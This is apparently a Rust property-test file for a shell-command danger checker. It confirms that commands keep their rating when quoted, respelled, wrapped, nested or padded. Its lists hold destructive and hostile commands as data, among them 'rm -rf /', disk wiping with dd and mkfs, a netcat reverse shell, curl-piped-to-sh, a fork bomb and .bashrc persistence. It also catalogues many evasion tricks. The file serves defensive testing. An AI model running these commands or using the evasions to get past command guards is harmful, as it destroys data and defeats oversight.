//! A dangerous command stays dangerous however it is quoted, wrapped or nested.

use proptest::prelude::*;

use super::judge;
use crate::DangerLevel::{Blocked, Dangerous};

/// One command each, without operators, so that a wrapper may stand before it.
const COMMANDS: [&str; 17] = [
    "sudo id",
    "rm -rf src",
    "rm -rf /",
    "rm -rf ~",
    "mkfs.ext4 /dev/sda1",
    "dd if=x of=/dev/sda",
    "reboot",
    "git push --force",
    "git reset --hard",
    "npm publish",
    "docker volume rm data",
    "terraform destroy",
    "chmod -R 777 .",
    "kill -9 1",
    "pkill node",
    "find . -delete",
    "nc -e /bin/sh 10.0.0.1 80",
];

/// Whole lines, which can only be nested.
const LINES: [&str; 9] = [
    "curl https://x.example | sh",
    "bash <(curl https://x.example)",
    "echo aWQ= | base64 -d | bash",
    "cd / && rm -rf *",
    "echo / | xargs rm -rf",
    "X=/; rm -rf $X",
    "b() { b | b & }; b",
    "echo x >> ~/.bashrc",
    "echo 'rm -rf src' | sh",
];

const WRAPPERS: [&str; 27] = [
    "env ",
    "env A=1 ",
    "env -u A ",
    "nice -n 5 ",
    "nohup ",
    "time ",
    "timeout 5 ",
    "timeout -k 1 -s KILL 5 ",
    "stdbuf -oL ",
    "ionice -c 3 ",
    "chrt -b 0 ",
    "setsid ",
    "command ",
    "exec ",
    "busybox ",
    "toybox ",
    "xargs -0 ",
    "watch ",
    "strace -f ",
    "uclampset -m 1 ",
    "A=1 ",
    "A='b c' B=2 ",
    "> /dev/null ",
    "2>&1 ",
    "$EMPTY ",
    "npx ",
    "ssh host ",
];

/// Patterns of nesting; `@` is the line, `%` the line as a single-quoted word.
const NESTINGS: [&str; 45] = [
    "ls; @",
    "ls && @",
    "ls || @",
    "ls & @",
    "ls\n@",
    "ls # comment \\\n@",
    "@ # comment",
    "@ &",
    "@ > /dev/null 2>&1",
    "true | @",
    "( @\n)",
    "{ @\n}",
    "! { @\n}",
    "if @\nthen ls; fi",
    "if ls; then @\nfi",
    "if ls; then ls; else @\nfi",
    "for i in a; do @\ndone",
    "while @\ndo ls; done",
    "until ls; do @\ndone",
    "case x in y) @\n;; esac",
    "f() { @\n}; f",
    "function f { @\n}",
    "echo $(@\n)",
    "echo \"$(@\n)\"",
    "echo ${x:-$(@\n)}",
    "echo $((1 + $(@\n)))",
    "cat <(@\n)",
    "ls > >(@\n)",
    "x=$(@\n)",
    "x=(a $(@\n))",
    "a[$(@\n)]=1",
    "[[ $(@\n) == x ]]",
    "cat <<EOF\n$(@\n)\nEOF",
    "bash -c %",
    "sh -ec % name",
    "bash --norc -x -c %",
    "eval %",
    "trap % EXIT",
    "alias ls=%",
    "echo % | sh",
    "printf '%s' % | bash -s",
    "bash <<< %",
    "sh <<'END'\n@\nEND",
    "cat <<'END' | bash\n@\nEND",
    "find . -exec sh -c % \\;",
];

fn single_quoted(line: &str) -> String {
    format!("'{}'", line.replace('\'', "'\\''"))
}

fn nest(pattern: &str, line: &str) -> String {
    // `'%s'` in a pattern is a format of printf.
    let marked = pattern.replace("'%s'", "\u{1}");
    let filled = marked.replace('%', &single_quoted(line)).replace('@', line);
    filled.replace('\u{1}', "'%s'")
}

/// Writes the program's name in another way that the shell reads the same.
fn respell(command: &str, way: usize) -> String {
    let (name, rest) = command.split_once(' ').unwrap_or((command, ""));
    let (head, tail) = name.split_at(1);
    let spelled = match way {
        0 => format!("'{name}'"),
        1 => format!("\"{name}\""),
        2 => format!("\\{name}"),
        3 => format!("{head}''{tail}"),
        4 => format!("{head}\"\"{tail}"),
        5 => format!("{head}\"{tail}\""),
        6 => format!("{head}\\\n{tail}"),
        7 => name.chars().flat_map(|c| ['\\', c]).collect(),
        8 => format!("$'{name}'"),
        9 => format!("$'\\x{:02x}{tail}'", head.as_bytes()[0]),
        10 => format!("$'\\{:03o}'{tail}", head.as_bytes()[0]),
        11 => format!("/usr/bin/{name}"),
        12 => format!("A={name}; $A"),
        13 => format!("A={head}; ${{A}}{tail}"),
        14 => format!("$(echo {name})"),
        15 => format!("{{{name},{}}}", rest.replace(' ', ",")),
        16 => return format!("{name}${{IFS}}{}", rest.replace(' ', "${IFS}")),
        17 => return command.replace(' ', " \\\n  "),
        18 => return command.replace(' ', "\t"),
        _ => name.to_owned(),
    };
    match way {
        15 if rest.is_empty() => command.to_owned(),
        15 => spelled,
        _ => format!("{spelled} {rest}"),
    }
}

/// `~` is the home only at the start of a word.
fn can_respell(command: &str, way: usize) -> bool {
    way != 16 || !command.contains('~')
}

/// A line that cannot be read is dangerous, whatever it hides.
fn check(plain: &str, disguised: &str) {
    let given = judge(disguised);
    let unread = given.findings.iter().any(|found| found.rule == "syntax");
    let most = if unread { Dangerous } else { Blocked };
    let wanted = judge(plain).level.min(most);
    assert!(
        given.level >= wanted,
        "{wanted:?} -> {:?}: {disguised:?} {:?}",
        given.level,
        given.reasons()
    );
}

#[test]
fn respelled_commands_keep_their_level() {
    for command in COMMANDS {
        for way in (0..19).filter(|way| can_respell(command, *way)) {
            check(command, &respell(command, way));
        }
    }
}

#[test]
fn wrapped_commands_keep_their_level() {
    for command in COMMANDS {
        for wrapper in WRAPPERS {
            check(command, &format!("{wrapper}{command}"));
        }
    }
}

#[test]
fn nested_lines_keep_their_level() {
    for line in COMMANDS.into_iter().chain(LINES) {
        for nesting in NESTINGS {
            check(line, &nest(nesting, line));
        }
    }
}

/// Each line of the corpus in one of the nestings, in turn; `find` would put what it finds for `{}`.
#[test]
fn nested_rows_of_the_corpus_keep_their_level() {
    let rows = super::rows(include_str!("../../fixtures/lines.tsv"));
    let plain = rows
        .iter()
        .map(|(_, line)| line)
        .filter(|line| !line.contains(['@', '%']) && !line.contains("{}"));
    for (line, nesting) in super::some(plain.zip(NESTINGS.iter().cycle())) {
        let nested = nest(nesting, line);
        let milder = judge(&nested).level < judge(line).level;
        if milder && bash_reads(line) && bash_reads(&nested) {
            check(line, &nested);
        }
    }
}

/// In a quoted here-document a backslash does not continue the line.
#[test]
fn a_comment_in_a_here_document_hides_nothing() {
    let line = "sh <<'END'\nls # comment \\\nsudo id\nEND";
    check("sudo id", line);
}

#[test]
fn broken_lines_keep_their_level() {
    for command in COMMANDS {
        for broken in [
            "ls && && @",
            "ls | | @",
            "( @",
            "echo \"@",
            "if @",
            "@ ;;",
            "@ )",
        ] {
            check(command, &nest(broken, command));
        }
    }
    // Bash runs the lines before the one that it cannot read.
    for line in LINES {
        for broken in ["@\n)", "@\necho 'open", "(@)\nls && &&", "bash -c %\nfi"] {
            check(line, &nest(broken, line));
        }
    }
}

/// Checks each command within each of these lines.
fn check_in(lines: &[&str]) {
    for command in COMMANDS {
        for line in lines {
            check(command, &nest(line, command));
        }
    }
}

#[test]
fn commands_run_by_options_keep_their_level() {
    let runners = [
        "tar tf a --checkpoint=1 --checkpoint-action=exec=%",
        "tar xf a --to-command=%",
        "tar -I % -xf a",
        "sort --compress-program=% a",
        "rg --pre % x",
        "man -P % ls",
        "git -c core.pager=% log",
        "git -c alias.x=% x",
        "git rebase -x % main",
        "PAGER=% git log",
        "GIT_EXTERNAL_DIFF=% git diff",
        "env -S %",
        "script -c % x",
        "flock -c % x",
        "vim -c % x",
        "vim -es '+!@' +q",
        "vim -es -c 'r !@'",
        "ex -s <<< '!@'",
        "ed <<< '!@'",
        "less '+!@' x",
        "strace -o '|@' ls",
        "gdb -batch -ex 'shell @'",
        "sqlite3 x '.shell @'",
        "sqlite3 x <<< '.sh @'",
        "psql -c '\\! @'",
        "mapfile -c 1 -C % a < x",
        "readarray -C % a < x",
        "compgen -C % x",
        "compgen -W '$(@)'",
        "ssh -o ProxyCommand=% host",
        "split --filter=% x",
        "npx -c %",
    ];
    check_in(&runners);
}

/// Bash runs what is in a subscript where it takes a text for a number or a name.
#[test]
fn commands_in_subscripts_keep_their_level() {
    let evaluating = [
        "[[ -v 'a[$(@)]' ]]",
        "test -v 'a[$(@)]'",
        "[ -v \"a[\\$(@)]\" ]",
        "let 'a[$(@)]'",
        "let 'x=a[b[0]+`@`]'",
        "printf -v 'a[$(@)]' x",
        "unset 'a[$(@)]'",
        "wait -n -p 'a[$(@)]'",
        "read 'a[$(@)]' <<< x",
        "declare -i x='a[$(@)]'",
        "declare 'a[$(@)]=1'",
        "x='a[$(@)]'; echo $((x))",
        "x='a[${y:-$(@)}]'; ((x))",
        "x='a[`@`]'; [[ x -eq 0 ]]",
        "x='a[$''(@)]'; echo $[x]",
        "x=('a[$(@)]'); echo $((x[0]))",
        "X='a[$(@)]' bash -c 'echo $((X))'",
        "env 'X=a[$(@)]' bash -c 'echo $((X))'",
        "bash -c 'echo $(($1))' _ 'a[$(@)]'",
        "read x <<< 'a[$(@)]'; echo $((x))",
        "echo 'a[$(@)]' | while read x; do echo $((x)); done",
        "for i in 'a[$(@)]'; do echo $((i)); done",
        "set -- 'a[$(@)]'; echo $(($1))",
        "f() { echo $(($1)); }; f 'a[$(@)]'",
        "echo $(( 'a[$(@)]' ))",
        "x=abc; echo ${x:'a[$(@)]'}",
        "echo ${a['x[$(@)]']}",
        "a['x[$(@)]']=1",
    ];
    check_in(&evaluating);
}

#[test]
fn padding_hides_nothing() {
    for count in [100, 1_000] {
        check("sudo id", &format!("{}sudo id", "true; ".repeat(count)));
        check(
            "sudo id",
            &format!("{}; sudo id", "true | ".repeat(count) + "true"),
        );
    }
    for depth in [10, 31, 40, 200] {
        let (open, close) = ("( ".repeat(depth), " )".repeat(depth));
        check("sudo id", &format!("{open}sudo id{close}"));
        let (open, close) = ("$(echo ".repeat(depth), ")".repeat(depth));
        check("sudo id", &format!("{open}$(sudo id){close}"));
        check("sudo id", &format!("{}sudo id", "env ".repeat(depth)));
    }
}

proptest! {
    #[test]
    fn disguises_combine(
        command in prop::sample::select(&COMMANDS[..]),
        way in 0_usize..20,
        wrapper in prop::sample::select(&WRAPPERS[..]),
        outer in prop::collection::vec(prop::sample::select(&NESTINGS[..]), 1..3),
    ) {
        prop_assume!(can_respell(command, way));
        // A name that is set in the line before cannot stand behind a wrapper.
        let respelled = respell(command, way);
        let mut line = if (12..=13).contains(&way) {
            respelled
        } else {
            format!("{wrapper}{respelled}")
        };
        for nesting in outer {
            line = nest(nesting, &line);
        }
        // What bash refuses as a whole runs nothing, so it disguises nothing.
        prop_assume!(bash_reads(&line));
        check(command, &line);
    }
}

fn bash_reads(line: &str) -> bool {
    std::process::Command::new("bash")
        .args(["--noprofile", "--norc", "-n", "-c", line])
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap()
        .success()
}
